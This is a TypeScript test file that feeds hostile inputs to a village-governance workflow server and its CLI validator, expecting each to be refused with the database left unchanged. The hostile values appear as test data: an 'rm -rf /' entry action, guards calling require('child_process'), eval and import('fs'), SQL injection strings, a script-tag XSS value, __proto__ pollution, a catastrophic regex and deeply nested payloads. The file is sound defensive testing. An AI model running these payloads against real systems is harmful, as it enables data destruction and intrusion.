// The bad-input corpus, over real HTTP: hostile flow definitions, invalid form data, events out of
// turn, stale sequence numbers, forged sessions, malformed requests and injection strings. Every
// case must be refused with the expected tRPC code and a message (or field issue) naming the
// problem, and leave the database exactly as it was: a dump of every table before and after.
// Hostile flows are also given to `villageflow validate`, which must refuse them the same way.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { TRPCClientError } from '@trpc/client';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { main } from '../../cli/villageflow.ts';
import { fromHolidayCn } from '../../engine/index.ts';
import { DEMO_PASSWORD } from '../../server/host/seed.ts';
import { clientFor, startTestServer, watchChanges, type Client, type TestServer } from '../server/harness.ts';
import { xlsxBomb } from '../server/zip-bomb.ts';
import { dumpDb, type Dump } from './db-dump.ts';
import { FIVE, INJECTIONS, MINI, MINI_ADD_ROLES, PROPOSAL, PROXY_REGISTRATION, TWO_COMMITTEES_MEETING } from './fixtures.ts';

type Json = any;
interface Refusal {
  code: string;
  message: string;
  issues: { pointer: string; message: string }[];
  engineCode?: string;
}
interface Ctx {
  as(username: string): Client;
  /** A raw HTTP call to /trpc/<path>, signed in as `username` unless null. */
  http(path: string, init: RequestInit & { as?: string | null }): Promise<Response>;
  seq(id: string): number;
  ids: Record<'proposal' | 'twoCommittees' | 'protoGuard' | 'registration', string>;
  versionOf: Map<string, number>;
}
interface Case {
  name: string;
  call: (c: Ctx) => Promise<unknown>;
  code: string;
  /** Must match the message, or one of the issues' "pointer message". */
  names: RegExp;
  engineCode?: string;
  /** Tables a refusal may legitimately write, and why (checked separately). */
  writes?: { table: 'login_failures'; rows: number };
  /** Runs before the "before" dump (a draft to publish, a clock to move). */
  setup?: (c: Ctx) => Promise<void>;
  after?: (c: Ctx) => void;
}

const SEQ_OF = 'SELECT seq FROM instances WHERE id = ?';
const PARTY = 'demo-dongping-road'; // party members' ballot (dongping)
const REVIEW = 'demo-xiling-square'; // township review (xiling)
const DONE = 'demo-xiling-forest'; // ended: representatives rejected it
const send = (c: Ctx, user: string, id: string, type: string, payload: unknown, seq?: number) =>
  c.as(user).instances.send.mutate({ id, seq: seq ?? c.seq(id), type, payload: payload as Record<string, unknown> });
const atProposal = (c: Ctx, payload: unknown) => send(c, 'nanwan.secretary', c.ids.proposal, 'SUBMIT', payload);
const meeting = (c: Ctx, payload: unknown) => send(c, 'nanwan.clerk', c.ids.twoCommittees, 'RECORD_VOTE', payload);
const ballot = (c: Ctx, payload: unknown, user = 'dongping.party9') => send(c, user, PARTY, 'CAST_BALLOT', payload);
const review = (c: Ctx, type: string, payload: unknown) => send(c, 'qs.reviewer', REVIEW, type, payload);
const registration = (c: Ctx, payload: unknown) => send(c, 'nanwan.agent', c.ids.registration, 'SUBMIT', payload);
const registerCount = (c: Ctx, change: Record<string, unknown>) => c.as('qs.admin').rosters.registerCount.mutate({ villageId: 'nanwan', role: 'villager', count: 1200, effectiveFrom: '2026-01-01', source: '南湾社区2026年村民名册', ...change } as never);
const json = (body: unknown) => ({ method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });

// ── hostile flow definitions: each is the mini fixture with one hostile change ───────────────────
interface FlowCase {
  name: string;
  mutate: (f: Json) => void;
  pointer: string;
  message: RegExp;
}
const deep = (levels: number): Json => {
  let schema: Json = { type: 'string' };
  for (let i = 0; i < levels; i++) schema = { type: 'object', properties: { n: schema } };
  return schema;
};
const guarded = (guard: string) => (f: Json) => (f.states.draft.on.SUBMIT[0].guard = guard);
const FLOWS: FlowCase[] = [
  {
    name: 'a cycle with no exit',
    mutate: (f) => {
      f.states.loop_a = { kind: 'task', title: { zh: '甲' }, roles: ['clerk'], on: { NEXT: 'loop_b' } };
      f.states.loop_b = { kind: 'task', title: { zh: '乙' }, roles: ['clerk'], on: { BACK: 'loop_a' } };
      f.states.draft.on.WITHDRAW = ['loop_a', 'withdrawn'].map((target) => ({ target }));
    },
    pointer: '/states/loop_a',
    message: /cycle with no exit/,
  },
  { name: 'a state with no way out', mutate: (f) => (f.states.review.on = { APPROVE: 'review' }), pointer: '/states/review', message: /no way out/ },
  { name: 'a dangling target', mutate: (f) => (f.states.draft.on.WITHDRAW = 'nowhere'), pointer: '/states/draft/on/WITHDRAW', message: /target "nowhere" is not in \/states/ },
  { name: 'a dangling after-timer target', mutate: (f) => (f.states.notice.after = { P1D: 'ghost' }), pointer: '/states/notice/after/P1D', message: /target "ghost"/ },
  { name: 'a dangling initial state', mutate: (f) => (f.initial = 'ghost'), pointer: '/initial', message: /initial state "ghost" is not in \/states/ },
  { name: 'an unknown top-level key', mutate: (f) => (f.context = { admin: true }), pointer: '/context', message: /unknown key "context"/ },
  { name: 'entry actions smuggled into a state', mutate: (f) => (f.states.draft.entry = 'rm -rf /'), pointer: '/states/draft/entry', message: /entry actions are not allowed/ },
  { name: 'nested states', mutate: (f) => (f.states.draft.states = { inner: {} }), pointer: '/states/draft/states', message: /nested states are not supported/ },
  { name: 'an eventless "always" transition (an endless loop)', mutate: (f) => (f.states.draft.always = { target: 'draft' }), pointer: '/states/draft/always', message: /eventless/ },
  { name: 'a guard reaching for process', mutate: guarded('process.exit(1)'), pointer: '/states/draft/on/SUBMIT/0/guard', message: /Unknown variable: process/ },
  { name: 'a guard reaching for globalThis', mutate: guarded('globalThis.process == null'), pointer: '/states/draft/on/SUBMIT/0/guard', message: /Unknown variable: globalThis/ },
  { name: 'a guard reaching for this.constructor', mutate: guarded('this.constructor == null'), pointer: '/states/draft/on/SUBMIT/0/guard', message: /Unknown variable: this/ },
  { name: 'a guard calling require()', mutate: guarded('require("child_process") == null'), pointer: '/states/draft/on/SUBMIT/0/guard', message: /no matching overload for 'require/ },
  { name: 'a guard calling eval()', mutate: guarded('eval("1") == 1'), pointer: '/states/draft/on/SUBMIT/0/guard', message: /no matching overload for 'eval/ },
  { name: 'a guard building a Function', mutate: guarded('Function("return process")() == 1'), pointer: '/states/draft/on/SUBMIT/0/guard', message: /Unexpected character/ },
  { name: 'a guard importing a module', mutate: guarded('import("fs") == null'), pointer: '/states/draft/on/SUBMIT/0/guard', message: /Reserved identifier: import/ },
  { name: 'a guard with a while loop', mutate: guarded('while (true) {}'), pointer: '/states/draft/on/SUBMIT/0/guard', message: /Reserved identifier: while/ },
  { name: 'a guard with a catastrophic regular expression', mutate: guarded('"aaaaaaaaaaaaaaaaaaaaaaaaaaaa!".matches("(a+)+$")'), pointer: '/states/draft/on/SUBMIT/0/guard', message: /matches\(\) is not allowed/ },
  { name: 'a guard too big to evaluate cheaply', mutate: guarded(Array(250).fill('1<2').join(' && ')), pointer: '/states/draft/on/SUBMIT/0/guard', message: /Exceeded maxAstNodes/ },
  { name: 'a guard nested too deeply', mutate: guarded('['.repeat(40) + ']'.repeat(40) + ' == []'), pointer: '/states/draft/on/SUBMIT/0/guard', message: /Exceeded maxDepth/ },
  { name: 'a guard over 2000 characters', mutate: guarded(Array(300).fill('payload.budget > 1.0').join(' && ')), pointer: '/states/draft/on/SUBMIT/0/guard', message: /must NOT have more than 2000 characters/ },
  { name: 'a guard that is not true or false', mutate: guarded('size("x")'), pointer: '/states/draft/on/SUBMIT/0/guard', message: /must be true or false/ },
  { name: 'a form schema nested 100 levels deep', mutate: (f) => (f.states.draft.form.schema.properties.deep = deep(100)), pointer: '', message: /nested too deeply/ },
  { name: 'a 1 MB title', mutate: (f) => (f.title.en = 'x'.repeat(1024 * 1024)), pointer: '/title/en', message: /must NOT have more than 2000 characters/ },
  { name: 'START redefined in "on"', mutate: (f) => (f.states.draft.on.START = 'review'), pointer: '/states/draft/on/START', message: /handled by the engine itself/ },
  { name: 'events on a final state', mutate: (f) => (f.states.adopted.on = { REOPEN: 'draft' }), pointer: '/states/adopted/on', message: /final state takes no events/ },
  { name: 'an undeclared starter role', mutate: (f) => (f.starters = ['root']), pointer: '/starters/0', message: /role "root" is not declared/ },
  { name: 'a duration that is not one', mutate: (f) => (f.states.notice.disclosure.period.duration = 'P7X'), pointer: '/states/notice/disclosure/period/duration', message: /ISO-8601 duration/ },
  { name: 'a pass ratio over zero', mutate: (f) => (f.states.meeting.vote.pass.ratio = '1/0'), pointer: '/states/meeting/vote/pass/ratio', message: /must be a fraction of whole numbers/ },
  { name: 'SUBMIT on a task without a form', mutate: (f) => (f.states.loose = { kind: 'task', title: { zh: '散' }, roles: ['clerk'], on: { SUBMIT: 'adopted' } }, f.states.draft.on.WITHDRAW = ['withdrawn', 'loose']), pointer: '/states/loose/on/SUBMIT', message: /has no "form"/ },
];

const cases: Case[] = [];
const add = (...c: Case[]) => cases.push(...c);
const issue = (pointer: string, message: RegExp) => new RegExp(`^${pointer.replace(/[/]/g, '\\/')} .*${message.source}`);

// Flows: the draft is saved (drafts may hold errors; the designer keeps work in progress), then
// publishing it is refused and changes nothing; the CLI refuses the same file.
FLOWS.forEach((f, i) => {
  const flow = structuredClone(MINI) as Json;
  flow.id = `hostile-${i}`;
  f.mutate(flow);
  const text = JSON.stringify(flow);
  add({
    name: `flow: ${f.name} — publish refused`,
    setup: async (c) => {
      const saved = await c.as('qs.admin').flows.saveDraft.mutate({ json: text });
      expect(saved.issues.map((x) => x.pointer)).toContain(f.pointer);
      c.versionOf.set(flow.id, saved.version.id);
    },
    call: async (c) => {
      const cli = await cliValidate(text);
      expect(cli.code, 'villageflow validate').toBe(1);
      expect(cli.err.some((line) => line.includes(`: ${f.pointer || '/'}: `) && f.message.test(line)), cli.err.join('\n')).toBe(true);
      return c.as('qs.admin').flows.publish.mutate({ id: c.versionOf.get(flow.id)! });
    },
    code: 'BAD_REQUEST',
    names: issue(f.pointer, f.message),
  });
});

add(
  { name: 'draft: not JSON', call: (c) => c.as('qs.admin').flows.saveDraft.mutate({ json: '{"id": "x",' }), code: 'BAD_REQUEST', names: /not JSON/ },
  { name: 'draft: JSON null', call: (c) => c.as('qs.admin').flows.saveDraft.mutate({ json: 'null' }), code: 'BAD_REQUEST', names: /needs at least a string "id"/ },
  { name: 'draft: a JSON array', call: (c) => c.as('qs.admin').flows.saveDraft.mutate({ json: '[1,2,3]' }), code: 'BAD_REQUEST', names: /needs at least a string "id"/ },
  { name: 'draft: a numeric id', call: (c) => c.as('qs.admin').flows.saveDraft.mutate({ json: '{"id": 7, "version": "1.0.0"}' }), code: 'BAD_REQUEST', names: /needs at least a string "id"/ },
  { name: 'draft: json is not a string', call: (c) => c.as('qs.admin').flows.saveDraft.mutate({ json: { id: 'x' } as never }), code: 'BAD_REQUEST', names: /^\/json / },
  { name: 'draft: 3 MB of JSON (over the 2 MB limit)', call: (c) => c.as('qs.admin').flows.saveDraft.mutate({ json: JSON.stringify({ ...MINI, id: 'huge', description: { zh: 'x'.repeat(3 * 1024 * 1024) } }) }), code: 'BAD_REQUEST', names: /^\/json .*(too big|at most)/i },
  { name: 'draft: a 10 MB string (over the request limit)', call: (c) => c.as('qs.admin').flows.saveDraft.mutate({ json: JSON.stringify({ ...MINI, id: 'huge', description: { zh: 'x'.repeat(10 * 1024 * 1024) } }) }), code: 'PAYLOAD_TOO_LARGE', names: /^what was sent is larger than 4 MB/ },
  { name: 'draft: over a published version', call: async (c) => c.as('qs.admin').flows.saveDraft.mutate({ json: JSON.stringify({ ...(await publishedFive(c)), description: { zh: '篡改' } }) }), code: 'CONFLICT', names: /already published; drafts need a new version number/ },
  { name: 'draft: by a village secretary', call: (c) => c.as('nanwan.secretary').flows.saveDraft.mutate({ json: JSON.stringify(MINI) }), code: 'FORBIDDEN', names: /township_admin/ },
  { name: 'publish: a version that does not exist', call: (c) => c.as('qs.admin').flows.publish.mutate({ id: 999_999 }), code: 'BAD_REQUEST', names: /flow version 999999 is not in this township/ },
  { name: 'publish: an id that is a string', call: (c) => c.as('qs.admin').flows.publish.mutate({ id: '1; DROP TABLE flow_versions' as never }), code: 'BAD_REQUEST', names: /^\/id / },
  { name: 'publish: an already published version', call: async (c) => c.as('qs.admin').flows.publish.mutate({ id: (await c.as('qs.admin').flows.list.query({ flowId: FIVE }))[0]!.id }), code: 'CONFLICT', names: /already published/ },
  ...(
    [
      ['names roles the catalogue lacks, without adding them', undefined, 'PRECONDITION_FAILED', 'ROLES_MISSING', /names roles the township's role catalogue lacks: rep \(村民代表\), reviewer \(乡镇审核人\)/],
      ['adds a role the flow does not name', [...MINI_ADD_ROLES, { ...MINI_ADD_ROLES[0]!, key: 'water_keeper' }], 'BAD_REQUEST', undefined, /^\/addRoles\/2\/key: water_keeper is not a role this flow names/],
      ['adds a role under another role’s label', [{ ...MINI_ADD_ROLES[0]!, label: { zh: '会议记录员', en: 'Rep' } }, MINI_ADD_ROLES[1]!], 'BAD_REQUEST', undefined, /^\/addRoles\/0\/label\/zh .*is the label of role clerk/],
      ['adds a role with a key that is not one', [{ ...MINI_ADD_ROLES[0]!, key: 'Rep Role' }], 'BAD_REQUEST', undefined, /^\/addRoles\/0\/key /],
    ] as const
  ).map(([what, addRoles, code, engineCode, names], i): Case => ({
    name: `publish: a flow that ${what}`,
    setup: async (c) => {
      const saved = await c.as('qs.admin').flows.saveDraft.mutate({ json: JSON.stringify({ ...MINI, id: `roles-missing-${i}` }) });
      c.versionOf.set(`roles-missing-${i}`, saved.version.id);
    },
    call: (c) => c.as('qs.admin').flows.publish.mutate({ id: c.versionOf.get(`roles-missing-${i}`)!, ...(addRoles ? { addRoles: addRoles as never } : {}) }),
    code,
    ...(engineCode ? { engineCode } : {}),
    names,
  })),
  { name: 'roles.add: a key with capitals and a space', call: (c) => c.as('qs.admin').roles.add.mutate({ key: 'Water Keeper', label: { zh: '管水员', en: 'Water keeper' }, scope: 'village' }), code: 'BAD_REQUEST', names: /^\/key must be lower-case/ },
  { name: 'roles.add: a key with SQL in it', call: (c) => c.as('qs.admin').roles.add.mutate({ key: "x'); DELETE FROM role_catalogue; --", label: { zh: '管水员', en: 'Water keeper' }, scope: 'village' }), code: 'BAD_REQUEST', names: /^\/key / },
  { name: 'roles.add: an empty Chinese label', call: (c) => c.as('qs.admin').roles.add.mutate({ key: 'water_keeper', label: { zh: '   ', en: 'Water keeper' }, scope: 'village' }), code: 'BAD_REQUEST', names: /^\/label\/zh / },
  { name: 'roles.add: a 41-character label', call: (c) => c.as('qs.admin').roles.add.mutate({ key: 'water_keeper', label: { zh: '管'.repeat(41), en: 'Water keeper' }, scope: 'village' }), code: 'BAD_REQUEST', names: /^\/label\/zh .*40/ },
  { name: 'roles.add: a scope that is not one', call: (c) => c.as('qs.admin').roles.add.mutate({ key: 'water_keeper', label: { zh: '管水员', en: 'Water keeper' }, scope: 'county' as never }), code: 'BAD_REQUEST', names: /^\/scope / },
  { name: 'roles.add: a key the township has', call: (c) => c.as('qs.admin').roles.add.mutate({ key: 'clerk', label: { zh: '管水员', en: 'Water keeper' }, scope: 'village' }), code: 'BAD_REQUEST', names: /^\/key is a role of the township already/ },
  { name: 'roles.add: the label of another role', call: (c) => c.as('qs.admin').roles.add.mutate({ key: 'water_keeper', label: { zh: '网格员', en: 'Water keeper' }, scope: 'village' }), code: 'BAD_REQUEST', names: /^\/label\/zh is the label of role grid_worker/ },
  { name: 'roles.add: by a village secretary', call: (c) => c.as('nanwan.secretary').roles.add.mutate({ key: 'water_keeper', label: { zh: '管水员', en: 'Water keeper' }, scope: 'village' }), code: 'FORBIDDEN', names: /township_admin/ },
  { name: 'roles.setLabel: a role the township lacks', call: (c) => c.as('qs.admin').roles.setLabel.mutate({ key: 'water_keeper', label: { zh: '管水员', en: 'Water keeper' } }), code: 'BAD_REQUEST', names: /^\/key is not a role of this township/ },
  { name: 'roles.setLabel: the English label of another role', call: (c) => c.as('qs.admin').roles.setLabel.mutate({ key: 'clerk', label: { zh: '记录人', en: 'grid worker' } }), code: 'BAD_REQUEST', names: /^\/label\/en is the label of role grid_worker/ },
  { name: 'setRoles: a role the catalogue lacks', call: (c) => c.as('qs.admin').org.setRoles.mutate({ userId: 'nanwan-clerk', roles: [{ role: 'water_keeper', villageId: 'nanwan' }] }), code: 'BAD_REQUEST', engineCode: 'ROLE_UNKNOWN', names: /^\/roles\/0\/role water_keeper is not a role of this township/ },
  { name: 'setRoles: a village role without a village', call: (c) => c.as('qs.admin').org.setRoles.mutate({ userId: 'nanwan-clerk', roles: [{ role: 'clerk', villageId: null }] }), code: 'BAD_REQUEST', names: /clerk is a village role; it needs a village/ },
  { name: 'setRoles: a township role in a village', call: (c) => c.as('qs.admin').org.setRoles.mutate({ userId: 'nanwan-clerk', roles: [{ role: 'auditor', villageId: 'nanwan' }] }), code: 'BAD_REQUEST', names: /auditor is a township role; it takes no village/ },
  { name: 'setVillages: a village of no township', call: (c) => c.as('qs.admin').flows.setVillages.mutate({ flowId: FIVE, villageIds: ['nanwan', "x'); DELETE FROM villages; --"] }), code: 'BAD_REQUEST', names: /not villages of this township: x'\); DELETE FROM villages; --/ },
  { name: 'setVillages: a flow never published', call: (c) => c.as('qs.admin').flows.setVillages.mutate({ flowId: 'hostile-0', villageIds: ['nanwan'] }), code: 'BAD_REQUEST', names: /flow hostile-0 has no published version/ },
  {
    name: 'a guard that reads data.constructor passes validation but its SUBMIT is refused, naming the key',
    setup: async (c) => {
      const admin = c.as('qs.admin');
      const flow = structuredClone(MINI) as Json;
      flow.id = 'proto-guard';
      flow.roles = { party_secretary: { zh: '书记' }, clerk: { zh: '记录员' }, rep: { zh: '代表' }, reviewer: { zh: '审核' }, villager: { zh: '村民' } };
      flow.starters = ['party_secretary'];
      flow.states.draft.roles = ['party_secretary'];
      // One transition only: a guard that throws must refuse the event, not fall through to another.
      flow.states.draft.on.SUBMIT = [{ target: 'review', guard: 'data.constructor == null' }];
      const saved = await admin.flows.saveDraft.mutate({ json: JSON.stringify(flow) });
      expect(saved.issues).toEqual([]);
      await admin.flows.publish.mutate({ id: saved.version.id, addRoles: MINI_ADD_ROLES });
      await admin.flows.setVillages.mutate({ flowId: 'proto-guard', villageIds: ['nanwan'] });
      c.ids.protoGuard = (await c.as('nanwan.secretary').instances.start.mutate({ villageId: 'nanwan', flowId: 'proto-guard' })).id;
    },
    call: (c) => send(c, 'nanwan.secretary', c.ids.protoGuard, 'SUBMIT', { subject: '原型', budget: 10 }),
    code: 'PRECONDITION_FAILED',
    engineCode: 'GUARD_REJECTED',
    names: /No such key: constructor/,
  },
);

// ── starting a matter ────────────────────────────────────────────────────────────────────────────
add(
  { name: 'start: a flow not published for the village', call: (c) => c.as('nanwan.secretary').instances.start.mutate({ villageId: 'nanwan', flowId: 'hostile-0' }), code: 'BAD_REQUEST', names: /flow hostile-0 is not published for village/ },
  { name: 'start: a flow id with SQL in it', call: (c) => c.as('nanwan.secretary').instances.start.mutate({ villageId: 'nanwan', flowId: "x' OR '1'='1" }), code: 'BAD_REQUEST', names: /flow x' OR '1'='1 is not published/ },
  { name: 'start: a village that does not exist', call: (c) => c.as('nanwan.secretary').instances.start.mutate({ villageId: 'atlantis', flowId: FIVE }), code: 'NOT_FOUND', names: /village atlantis does not exist/ },
  { name: 'start: another village', call: (c) => c.as('nanwan.secretary').instances.start.mutate({ villageId: 'dongping', flowId: FIVE }), code: 'FORBIDDEN', names: /no role in village 东坪村/ },
  { name: 'start: by a role that does not start the flow', call: (c) => c.as('nanwan.villager').instances.start.mutate({ villageId: 'nanwan', flowId: FIVE }), code: 'FORBIDDEN', engineCode: 'ROLE_FORBIDDEN', names: /starting this flow needs one of the roles/ },
  { name: 'start: a 201-character title', call: (c) => c.as('nanwan.secretary').instances.start.mutate({ villageId: 'nanwan', flowId: FIVE, title: '题'.repeat(201) }), code: 'BAD_REQUEST', names: /^\/title / },
  { name: 'start: a title that is a number', call: (c) => c.as('nanwan.secretary').instances.start.mutate({ villageId: 'nanwan', flowId: FIVE, title: 42 as never }), code: 'BAD_REQUEST', names: /^\/title / },
  { name: 'start: data that is a string', call: (c) => c.as('nanwan.secretary').instances.start.mutate({ villageId: 'nanwan', flowId: FIVE, data: 'x' as never }), code: 'BAD_REQUEST', names: /^\/data / },
  { name: 'start: data the flow does not declare', call: (c) => c.as('nanwan.secretary').instances.start.mutate({ villageId: 'nanwan', flowId: FIVE, data: { admin: true } }), code: 'BAD_REQUEST', engineCode: 'DATA_INVALID', names: /admin|additional/ },
  { name: 'start: data nested 200 levels deep', call: (c) => c.as('nanwan.secretary').instances.start.mutate({ villageId: 'nanwan', flowId: FIVE, data: nested(200) }), code: 'BAD_REQUEST', engineCode: 'EVENT_INVALID', names: /payload is nested too deeply \(more than 64 levels\)/ },
  { name: 'start: data nested 100,000 levels deep', call: (c) => c.http('instances.start', { method: 'POST', headers: { 'content-type': 'application/json' }, body: `{"villageId":"nanwan","flowId":"${FIVE}","data":{"proposal":${deepJson(100_000)}}}`, as: 'nanwan.secretary' }), code: 'BAD_REQUEST', engineCode: 'EVENT_INVALID', names: /nested too deeply/ },
  { name: 'start: a 10 MB title', call: (c) => c.as('nanwan.secretary').instances.start.mutate({ villageId: 'nanwan', flowId: FIVE, title: 'x'.repeat(10 * 1024 * 1024) }), code: 'PAYLOAD_TOO_LARGE', names: /^what was sent is larger than 4 MB/ },
);

// ── form data: the proposal form (五议两公开, nanwan) ─────────────────────────────────────────────
const without = (key: string) => Object.fromEntries(Object.entries(PROPOSAL).filter(([k]) => k !== key));
add(
  { name: 'form: missing required field subject', call: (c) => atProposal(c, without('subject')), code: 'BAD_REQUEST', engineCode: 'FORM_INVALID', names: /^\/subject / },
  { name: 'form: missing required field budget', call: (c) => atProposal(c, without('budget')), code: 'BAD_REQUEST', engineCode: 'FORM_INVALID', names: /^\/budget / },
  { name: 'form: budget as a string', call: (c) => atProposal(c, { ...PROPOSAL, budget: '三十八万' }), code: 'BAD_REQUEST', engineCode: 'FORM_INVALID', names: /^\/budget .*number/ },
  { name: 'form: budget as an object', call: (c) => atProposal(c, { ...PROPOSAL, budget: { $gt: 0 } }), code: 'BAD_REQUEST', engineCode: 'FORM_INVALID', names: /^\/budget / },
  { name: 'form: budget negative', call: (c) => atProposal(c, { ...PROPOSAL, budget: -1 }), code: 'BAD_REQUEST', engineCode: 'FORM_INVALID', names: /^\/budget / },
  { name: 'form: subject as an array', call: (c) => atProposal(c, { ...PROPOSAL, subject: ['a'] }), code: 'BAD_REQUEST', engineCode: 'FORM_INVALID', names: /^\/subject .*string/ },
  { name: 'form: subject empty', call: (c) => atProposal(c, { ...PROPOSAL, subject: '' }), code: 'BAD_REQUEST', engineCode: 'FORM_INVALID', names: /^\/subject / },
  { name: 'form: subject over its 100 characters', call: (c) => atProposal(c, { ...PROPOSAL, subject: '路'.repeat(101) }), code: 'BAD_REQUEST', engineCode: 'FORM_INVALID', names: /^\/subject .*100/ },
  { name: 'form: a 3 MB subject (under the request limit)', call: (c) => atProposal(c, { ...PROPOSAL, subject: 'x'.repeat(3 * 1024 * 1024) }), code: 'BAD_REQUEST', engineCode: 'FORM_INVALID', names: /^\/subject / },
  { name: 'form: a 10 MB content (over the request limit)', call: (c) => atProposal(c, { ...PROPOSAL, content: 'x'.repeat(10 * 1024 * 1024) }), code: 'PAYLOAD_TOO_LARGE', names: /^what was sent is larger than 4 MB/ },
  // The 五议两公开 forms are open (no additionalProperties: false); the service flows' are closed.
  { name: 'form: an unknown field (代办 registration)', call: (c) => registration(c, { ...PROXY_REGISTRATION, is_admin: true }), code: 'BAD_REQUEST', engineCode: 'FORM_INVALID', names: /^\/is_admin unknown key "is_admin"/ },
  { name: 'start: a __proto__ key in the data', call: (c) => c.as('nanwan.secretary').instances.start.mutate({ villageId: 'nanwan', flowId: FIVE, data: JSON.parse('{"__proto__": {"isAdmin": true}}') }), code: 'BAD_REQUEST', names: /^\/data the key "__proto__" is not allowed/ },
  { name: 'form: a __proto__ field (代办 registration)', call: (c) => registration(c, JSON.parse(`{"__proto__": {"polluted": true}, ${JSON.stringify(PROXY_REGISTRATION).slice(1)}`)), code: 'BAD_REQUEST', names: /^\/payload the key "__proto__" is not allowed/ },
  { name: 'form: an ID number that is not one (代办 registration)', call: (c) => registration(c, { ...PROXY_REGISTRATION, id_number: "1' OR '1'='1" }), code: 'BAD_REQUEST', engineCode: 'FORM_INVALID', names: /^\/id_number / },
  { name: 'form: a boolean as the string "true" (代办 registration)', call: (c) => registration(c, { ...PROXY_REGISTRATION, urgent: 'true' }), code: 'BAD_REQUEST', engineCode: 'FORM_INVALID', names: /^\/urgent .*boolean/ },
  { name: 'form: a date that is not a date', call: (c) => atProposal(c, { ...PROPOSAL, branch_meeting_date: "2026-02-30'; --" }), code: 'BAD_REQUEST', engineCode: 'FORM_INVALID', names: /^\/branch_meeting_date / },
  { name: 'form: a category not in the list', call: (c) => atProposal(c, { ...PROPOSAL, category: '<script>alert(1)</script>' }), code: 'BAD_REQUEST', engineCode: 'FORM_INVALID', names: /^\/category / },
  { name: 'form: the payload an array', call: (c) => atProposal(c, [PROPOSAL]), code: 'BAD_REQUEST', names: /^\/payload / },
  { name: 'form: the payload a string', call: (c) => atProposal(c, 'subject=x'), code: 'BAD_REQUEST', names: /^\/payload / },
  { name: 'form: a field nested 200 levels deep', call: (c) => atProposal(c, { ...PROPOSAL, content: nested(200) }), code: 'BAD_REQUEST', engineCode: 'EVENT_INVALID', names: /payload is nested too deeply/ },
  // The 五议两公开 forms take extra keys; before the depth limit this one overflowed the stack (500).
  { name: 'form: an extra key nested 10,000 levels deep', call: (c) => c.http('instances.send', { method: 'POST', headers: { 'content-type': 'application/json' }, body: `{"id":"${c.ids.proposal}","seq":1,"type":"SUBMIT","payload":${JSON.stringify(PROPOSAL).slice(0, -1)},"extra":${deepJson(10_000)}}}`, as: 'nanwan.secretary' }), code: 'BAD_REQUEST', engineCode: 'EVENT_INVALID', names: /nested too deeply/ },
  { name: 'form: an extra key just over the 64-level limit', call: (c) => atProposal(c, { ...PROPOSAL, extra: nested(64) }), code: 'BAD_REQUEST', engineCode: 'EVENT_INVALID', names: /nested too deeply/ },
  { name: 'form: a value that is NaN-like text', call: (c) => atProposal(c, { ...PROPOSAL, budget: 'NaN' }), code: 'BAD_REQUEST', engineCode: 'FORM_INVALID', names: /^\/budget / },
);

// ── meeting records, ballots, reviews ────────────────────────────────────────────────────────────
add(
  { name: 'meeting: more for than present', call: (c) => meeting(c, { ...TWO_COMMITTEES_MEETING, for: 9 }), code: 'BAD_REQUEST', engineCode: 'VOTE_INVALID', names: /^\/for .*exceeds present/ },
  { name: 'meeting: a negative count', call: (c) => meeting(c, { ...TWO_COMMITTEES_MEETING, against: -1 }), code: 'BAD_REQUEST', engineCode: 'VOTE_INVALID', names: /^\/against / },
  { name: 'meeting: a fractional count', call: (c) => meeting(c, { ...TWO_COMMITTEES_MEETING, present: 5.5 }), code: 'BAD_REQUEST', engineCode: 'VOTE_INVALID', names: /^\/present / },
  { name: 'meeting: a count as a string', call: (c) => meeting(c, { ...TWO_COMMITTEES_MEETING, members: '7' }), code: 'BAD_REQUEST', engineCode: 'VOTE_INVALID', names: /^\/members / },
  { name: 'meeting: present over members', call: (c) => meeting(c, { ...TWO_COMMITTEES_MEETING, present: 8, for: 7 }), code: 'BAD_REQUEST', engineCode: 'VOTE_INVALID', names: /^\/present present \(8\) exceeds eligible \(7\)/ },
  { name: 'meeting: recorded by a party member', call: (c) => send(c, 'nanwan.party2', c.ids.twoCommittees, 'RECORD_VOTE', TWO_COMMITTEES_MEETING), code: 'FORBIDDEN', engineCode: 'ROLE_FORBIDDEN', names: /recording the meeting needs one of the roles/ },
  { name: 'ballot: a choice that is not one', call: (c) => ballot(c, { choice: 'maybe' }), code: 'BAD_REQUEST', engineCode: 'VOTE_INVALID', names: /^\/choice / },
  { name: 'ballot: no choice', call: (c) => ballot(c, {}), code: 'BAD_REQUEST', engineCode: 'VOTE_INVALID', names: /choice/ },
  { name: 'ballot: a second field', call: (c) => ballot(c, { choice: 'for', weight: 100 }), code: 'BAD_REQUEST', engineCode: 'VOTE_INVALID', names: /weight|additional/ },
  { name: 'ballot: by the clerk, who is not in the electorate', call: (c) => ballot(c, { choice: 'for' }, 'dongping.clerk'), code: 'FORBIDDEN', engineCode: 'ROLE_FORBIDDEN', names: /casting a ballot needs one of the roles party_member/ },
  { name: 'ballot: by a party member of another village', call: (c) => ballot(c, { choice: 'for' }, 'nanwan.party1'), code: 'NOT_FOUND', names: /instance demo-dongping-road does not exist/ },
  { name: 'review: RETURN without a reason', call: (c) => review(c, 'RETURN', {}), code: 'BAD_REQUEST', engineCode: 'FORM_INVALID', names: /reason/ },
  { name: 'review: REJECT with an empty reason', call: (c) => review(c, 'REJECT', { reason: '' }), code: 'BAD_REQUEST', engineCode: 'FORM_INVALID', names: /^\/reason / },
  { name: 'review: a 5001-character reason', call: (c) => review(c, 'RETURN', { reason: '理'.repeat(5001) }), code: 'BAD_REQUEST', engineCode: 'FORM_INVALID', names: /^\/reason .*5000/ },
  { name: 'review: APPROVE with an unknown field', call: (c) => review(c, 'APPROVE', { opinion: '同意', stamp: 'forged' }), code: 'BAD_REQUEST', engineCode: 'FORM_INVALID', names: /stamp|additional/ },
  { name: 'review: APPROVE by a village secretary', call: (c) => send(c, 'xiling.secretary', REVIEW, 'APPROVE', {}), code: 'FORBIDDEN', engineCode: 'ROLE_FORBIDDEN', names: /APPROVE in "township_review" needs one of the roles/ },
);

// ── events not allowed now ───────────────────────────────────────────────────────────────────────
add(
  { name: 'event: APPROVE at the proposal step', call: (c) => send(c, 'nanwan.secretary', c.ids.proposal, 'APPROVE', {}), code: 'PRECONDITION_FAILED', engineCode: 'EVENT_NOT_ALLOWED', names: /APPROVE is not allowed in state "proposal"/ },
